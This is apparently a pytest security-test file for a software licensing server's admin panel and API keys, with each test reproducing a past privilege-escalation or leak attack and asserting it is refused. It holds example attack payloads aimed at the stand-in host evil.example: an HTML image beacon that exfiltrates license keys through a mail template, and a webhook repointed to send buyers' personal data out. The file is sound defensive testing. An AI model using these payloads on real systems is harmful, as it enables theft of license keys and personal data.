"""Attacks on the control panel and the scoped admin API keys (issue 16), from the outside.

Each test is one attack that worked against the build it was written on; its
docstring states the invariant the product promises and the attack broke.
They run in-process (the real app, no socket), with the panel's helpers.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator

import pytest
from sqlalchemy import select

from software_dna.server.domain.roles import Role
from software_dna.server.models import AuditEntry, StaffSession
from software_dna.server.services.admin import create_admin_key
from software_dna.server.testing import InProcessServer
from tests.airgapped import AirGapped
from tests.panel.helpers import PASSWORD, PanelUser, add_staff, db
from tests.stores_payloads import dumps, ls_event, ls_headers, ls_order


@pytest.fixture(scope="module")
def inprocess_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[InProcessServer]:
    """A server of this module's own (sign-in limits are counted per server)."""
    with InProcessServer(tmp_path_factory.mktemp("panel-attacks")) as srv:
        yield srv


def _key(server: InProcessServer, role: Role) -> str:
    with db(server) as session:
        return create_admin_key(session, server.app.state.sdna.ctx, role=role, name=role.value)


def test_cross_site_sign_in_post_is_refused(inprocess_server: InProcessServer) -> None:
    """Login CSRF: "CSRF protection on every form" includes the sign-in form.

    A page on another site can post the sign-in form (it carries no CSRF token
    and the server does not look at Origin / Sec-Fetch-Site), signing the
    victim's browser into a staff account the attacker controls (or out of
    their own: the new cookie replaces it). A cross-site sign-in post must be
    refused (403) and start no session.
    """
    email = add_staff(inprocess_server, Role.SUPPORT)
    with db(inprocess_server) as session:
        before = session.query(StaffSession).count()
    with inprocess_server.session() as http:
        answer = http.post(inprocess_server.url + "/panel/sign-in",
                           data={"email": email, "password": PASSWORD, "next": "/panel/"},
                           headers={"Origin": "https://evil.example",
                                    "Referer": "https://evil.example/login-csrf.html",
                                    "Sec-Fetch-Site": "cross-site"},
                           allow_redirects=False)
    with db(inprocess_server) as session:
        after = session.query(StaffSession).count()
    assert answer.status_code == 403, (answer.status_code, answer.headers.get("set-cookie"))
    assert "sdna_session=" not in answer.headers.get("set-cookie", "")
    assert after == before


def test_developer_key_cannot_make_the_key_mail_leak_license_keys(
        inprocess_server: InProcessServer) -> None:
    """A role without ``licenses`` must not be able to obtain license keys.

    The developer role may not issue licenses and nobody can read a key back
    (the server keeps only a keyed hash), but a developer key may replace the
    ``license_key`` mail template (vendor-wide or per product) with one whose
    HTML part loads ``https://attacker/?k={{ license_key }}``: every key mailed
    to a buyer from then on is sent to the attacker when the mail is opened.
    Either the developer may not change that template, or a template that
    puts the key into an address of another host is refused.
    """
    developer = _key(inprocess_server, Role.DEVELOPER)
    headers = {"Authorization": f"Bearer {developer}"}
    with inprocess_server.session() as http:
        url = inprocess_server.url + "/v1/admin/mail-templates/license_key"
        current = http.get(url, headers=headers)
        assert current.status_code == 200
        body = current.json()
        beacon = ('<p>Your key: {{ license_key }}</p>'
                  '<img src="https://evil.example/k.png?k={{ license_key }}" alt="">')
        put = http.put(url, headers=headers, json={
            "subject": body["subject"], "text": body["text"], "html": beacon})
        if put.status_code in (400, 403):
            return
        preview = http.post(url + "/preview", headers=headers, json={})
        assert preview.status_code == 200, preview.text
        rendered = preview.json()["html"]
    assert "https://evil.example/k.png?k=" not in rendered, (
        f"developer key set the key mail to beacon keys elsewhere: {rendered!r}")


def test_developer_key_cannot_issue_licenses_through_a_store_it_connects(
        inprocess_server: InProcessServer) -> None:
    """Issuing a license needs the ``licenses`` permission, whatever the way.

    A developer key may not ``POST /v1/admin/licenses`` (403), but it may
    connect a store with a signing secret of its own choosing (or replace the
    secret of the vendor's real connector: connecting the same provider and
    mode again replaces it) and map a price to a product; it then signs a
    "sale" itself and the server issues a full 50-seat license and mails its
    key to the address in the forged order. A role without ``licenses`` must
    not be able to make the server issue a license.
    """
    owner = {"Authorization": f"Bearer {_key(inprocess_server, Role.OWNER)}"}
    developer = {"Authorization": f"Bearer {_key(inprocess_server, Role.DEVELOPER)}"}
    url = inprocess_server.url
    with inprocess_server.session() as http:
        assert http.post(url + "/v1/admin/products", headers=owner,
                         json={"id": "store-escalation", "name": "Store"}).status_code == 201
        assert http.post(url + "/v1/admin/licenses", headers=developer,
                         json={"product": "store-escalation"}).status_code == 403

        def licenses() -> int:
            listed = http.get(url + "/v1/admin/licenses", headers=owner,
                              params={"product": "store-escalation"})
            assert listed.status_code == 200
            return len(listed.json()["licenses"])

        before = licenses()
        secret = "a-secret-the-developer-chose"
        connector = http.post(url + "/v1/admin/stores/connectors", headers=developer,
                              json={"provider": "lemonsqueezy", "mode": "live",
                                    "secret": secret})
        if connector.status_code == 403:
            return
        assert connector.status_code == 201, connector.text
        mapping = http.post(url + "/v1/admin/stores/mappings", headers=developer,
                            json={"connector_id": connector.json()["id"],
                                  "price_ref": "424242", "product": "store-escalation",
                                  "seats": 50})
        if mapping.status_code == 403:
            return
        assert mapping.status_code == 201, mapping.text
        body = dumps(ls_event("order_created", "orders", "90001",
                              ls_order(variant=424242, email="dev@attacker.example")))
        sale = http.post(url + connector.json()["webhook_path"], data=body,
                         headers=ls_headers(body, secret, "order_created"))
        after = licenses()
    assert after == before, (
        f"a developer key issued a license through its own store: {sale.status_code} "
        f"{sale.text}")


def test_developer_key_cannot_repoint_a_personal_data_webhook(
        inprocess_server: InProcessServer) -> None:
    """"A developer key manages webhooks but cannot have buyers' addresses sent anywhere".

    docs/server.md: a webhook endpoint that receives personal data needs the
    ``personal_data`` permission "on create or change". An owner's endpoint
    with ``personal_data: true`` (the CRM) is re-pointed by a developer key
    with ``PATCH {"url": "https://evil.example/hook"}`` (200), and
    ``rotate-secret`` hands that key the new signing secret: from then on
    every buyer's address goes to the developer's server, signed. Changing
    where (or with which secret) a personal-data endpoint delivers must need
    ``personal_data`` (403) and leave the endpoint as it was.
    """
    owner = {"Authorization": f"Bearer {_key(inprocess_server, Role.OWNER)}"}
    developer = {"Authorization": f"Bearer {_key(inprocess_server, Role.DEVELOPER)}"}
    url = inprocess_server.url + "/v1/admin/webhooks"
    with inprocess_server.session() as http:
        made = http.post(url, headers=owner, json={
            "url": "https://crm.vendor.example/hook", "events": ["license.issued"],
            "personal_data": True})
        assert made.status_code == 201, made.text
        endpoint = made.json()["endpoint"]["id"]
        # The documented rule itself holds for a new endpoint:
        assert http.post(url, headers=developer, json={
            "url": "https://evil.example/hook", "events": ["license.issued"],
            "personal_data": True}).status_code == 403
        repoint = http.patch(f"{url}/{endpoint}", headers=developer,
                             json={"url": "https://evil.example/hook"})
        rotate = http.post(f"{url}/{endpoint}/rotate-secret", headers=developer)
        now = http.get(f"{url}/{endpoint}", headers=owner).json()
    now = now.get("endpoint", now)
    assert repoint.status_code == 403, repoint.text
    assert rotate.status_code == 403, rotate.text
    assert now["url"] == "https://crm.vendor.example/hook"


def _signed_in(server: InProcessServer, role: Role) -> PanelUser:
    user = PanelUser(server, add_staff(server, role))
    assert user.sign_in().status_code == 303
    return user


def test_panel_refuses_a_full_license_key_in_the_address(
        inprocess_server: InProcessServer) -> None:
    """A full license key never travels in a URL (it ends up in proxies' access logs).

    The admin API refuses ``GET /v1/admin/licenses?q=<full key>`` for exactly
    that reason ("a key in a URL ends up in access logs") and the panel's own
    search form posts; but ``GET /panel/licenses?q=<full key>`` is answered
    (303 to the license), so a bookmarked or shared search URL with the key
    works and trains staff to paste keys into addresses. It must be refused
    like the API's (400), without looking the key up.
    """
    owner = {"Authorization": f"Bearer {_key(inprocess_server, Role.OWNER)}"}
    with inprocess_server.session() as http:
        made = http.post(inprocess_server.url + "/v1/admin/products", headers=owner,
                         json={"id": "key-in-url", "name": "Key in URL"})
        assert made.status_code == 201, made.text
        issued = http.post(inprocess_server.url + "/v1/admin/licenses", headers=owner,
                           json={"product": "key-in-url"})
        assert issued.status_code == 201, issued.text
        key = issued.json()["license_key"]
        api = http.get(inprocess_server.url + "/v1/admin/licenses", headers=owner,
                       params={"q": key})
    assert api.status_code == 400  # the API's rule
    with _signed_in(inprocess_server, Role.READ_ONLY) as user:
        answer = user.get("/panel/licenses", params={"q": key})
    assert answer.status_code == 400, (answer.status_code, answer.headers.get("location"))


def test_panel_search_by_email_does_not_put_the_address_in_the_url(
        inprocess_server: InProcessServer) -> None:
    """An end user's email address is not written into URLs (proxy logs, browser history).

    The license search form is a POST so that what is typed stays out of
    addresses, but a search by email answers 303 to
    ``/panel/licenses?q=ana%40example.com``: the browser then requests that
    URL, so the end user's address lands in the reverse proxy's access log
    and the staff browser's history, outside the erasure's reach.
    """
    with _signed_in(inprocess_server, Role.SUPPORT) as user:
        answer = user.post("/panel/licenses/search", {"q": "ana.person@example.com"})
    location = answer.headers.get("location", "")
    assert "ana.person" not in location and "example.com" not in location, location


def test_an_air_gapped_answer_in_the_panel_is_audited_as_the_panels(
        inprocess_server: InProcessServer, machine: Callable[..., AirGapped]) -> None:
    """"The audit entries of the panel have the actor ``panel``" (docs/panel.md).

    An air-gapped request answered by a support member in the panel is
    recorded as ``activation.create`` by actor ``sdk`` (the end user's app),
    with the staff id hidden in ``actor_id`` and ``by_staff`` in the detail:
    a filter or a reader of the log by actor sees an end user activating, not
    a staff member handing out a seat. It must read actor ``panel``.
    """
    pid = "airgap-audit"
    keys = inprocess_server.admin.setup_product(pid, features=["export"], air_gapped=True)
    issued = inprocess_server.admin.issue_license(pid, seats=1)
    request = machine(pid, keys).client.create_activation_request(issued["license_key"])
    with _signed_in(inprocess_server, Role.SUPPORT) as support:
        answer = support.post("/panel/offline", {"request": request})
    assert answer.status_code == 200, answer.text
    with db(inprocess_server) as session:
        entry = session.scalars(select(AuditEntry).where(
            AuditEntry.license_id == issued["id"],
            AuditEntry.action == "activation.create")).one()
        assert entry.actor_id is not None and entry.actor_id.startswith("stf_")
        assert entry.actor == "panel", (entry.actor, entry.detail)
